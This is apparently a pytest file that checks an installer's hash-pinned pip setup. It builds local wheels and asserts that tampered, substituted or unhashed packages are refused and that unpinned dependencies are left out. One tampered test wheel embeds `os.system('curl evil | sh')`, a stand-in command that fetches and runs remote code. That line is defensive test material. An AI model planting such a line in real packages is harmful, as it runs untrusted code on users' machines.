"""The set-up installs nothing but the pinned files (issue 54): install.py's own pip command (the pip bundled with
this Python, run as install.py runs it), run for real against a local folder of wheels, refuses a wheel whose bytes
are not the pin's, a wheel put in the pinned one's place, and a pin without a hash, and fetches no dependency the
files do not pin. A tiny wheel made here stands for torch: pip's hash check does not depend on the package."""

from __future__ import annotations

import base64
import hashlib
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

import install_steps as install

NAME = "tinykit_probe"
REFUSED = "THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE"


def wheel(folder: Path, body: str, tag: str = "py3-none-any", requires: str = "") -> Path:
    """A wheel of tinykit-probe 1.0 holding one module, `body` its source."""
    folder.mkdir(parents=True, exist_ok=True)
    info = f"{NAME}-1.0.dist-info"
    files = {f"{NAME}.py": body,
             f"{info}/METADATA": f"Metadata-Version: 2.1\nName: tinykit-probe\nVersion: 1.0\n{requires}",
             f"{info}/WHEEL": f"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: {tag}\n"}
    record = [f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b'=').decode()}"
              f",{len(text.encode())}" for path, text in files.items()]
    path = folder / f"{NAME}-1.0-{tag}.whl"
    with zipfile.ZipFile(path, "w") as whl:
        for name, text in {**files, f"{info}/RECORD": "\n".join([*record, f"{info}/RECORD,,"]) + "\n"}.items():
            whl.writestr(name, text)
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def set_up(tmp: Path, requirements: str, wheels: Path, target: str) -> subprocess.CompletedProcess[str]:
    """install.py's hash-checked install of one requirement file, from `wheels` alone, into a folder."""
    (tmp / "req.txt").write_text(requirements)
    pip = install.pip(Path(sys.executable), install.unpacked(install.bundled_pip(), tmp / "pip"))
    argv = [*install.pip_install(pip, "req.txt"),
            "--isolated", "--no-index", "--find-links", str(wheels), "--target", str(tmp / target)]
    return subprocess.run(argv, cwd=tmp, capture_output=True, text=True, check=False)


def test_the_pinned_wheel_installs_and_a_changed_one_is_refused(tmp_path: Path) -> None:
    genuine = wheel(tmp_path / "wheels", "ANSWER = 42\n")
    pin = f"tinykit-probe==1.0 --hash=sha256:{sha256(genuine)}\n"
    ok = set_up(tmp_path, pin, tmp_path / "wheels", "good")
    assert ok.returncode == 0, ok.stderr
    assert (tmp_path / "good" / f"{NAME}.py").read_text() == "ANSWER = 42\n"

    wheel(tmp_path / "wheels", "ANSWER = 42\nimport os; os.system('curl evil | sh')\n")  # the same name, changed
    tampered = set_up(tmp_path, pin, tmp_path / "wheels", "bad")
    assert tampered.returncode != 0 and REFUSED in tampered.stderr
    assert "tinykit-probe==1.0" in tampered.stderr and sha256(genuine) in tampered.stderr  # expected vs got
    assert not (tmp_path / "bad").exists() or not list((tmp_path / "bad").iterdir())


def test_a_wheel_slipped_in_beside_the_pinned_one_is_refused(tmp_path: Path) -> None:
    """A file the pin does not name, of the same version, that pip would prefer (a more specific tag): refused."""
    genuine = wheel(tmp_path / "wheels", "ANSWER = 42\n")
    wheel(tmp_path / "wheels", "ANSWER = 666\n", tag=f"py{sys.version_info[0]}{sys.version_info[1]}-none-any")
    done = set_up(tmp_path, f"tinykit-probe==1.0 --hash=sha256:{sha256(genuine)}\n", tmp_path / "wheels", "t")
    assert done.returncode != 0 and REFUSED in done.stderr
    assert not (tmp_path / "t" / f"{NAME}.py").exists()


@pytest.mark.wide  # the fast tier keeps the pinned wheel and a changed one, and the one slipped in beside it
def test_a_pin_without_a_hash_is_refused_and_no_unpinned_dependency_comes(tmp_path: Path) -> None:
    genuine = wheel(tmp_path / "wheels", "ANSWER = 42\n", requires="Requires-Dist: tinykit-dependency\n")
    unhashed = set_up(tmp_path, "tinykit-probe==1.0\n", tmp_path / "wheels", "a")
    assert unhashed.returncode != 0 and "Hashes are required in --require-hashes mode" in unhashed.stderr
    # its dependency sits in the folder too, but it is pinned nowhere: --no-deps leaves it out
    dependency = tmp_path / "wheels" / "tinykit_dependency-1.0-py3-none-any.whl"
    with zipfile.ZipFile(dependency, "w") as whl:
        whl.writestr("tinykit_dependency-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinykit-dependency\n"
                     "Version: 1.0\n")
    done = set_up(tmp_path, f"tinykit-probe==1.0 --hash=sha256:{sha256(genuine)}\n", tmp_path / "wheels", "b")
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in (tmp_path / "b").iterdir() if not p.name.endswith(".dist-info")) == [f"{NAME}.py"]
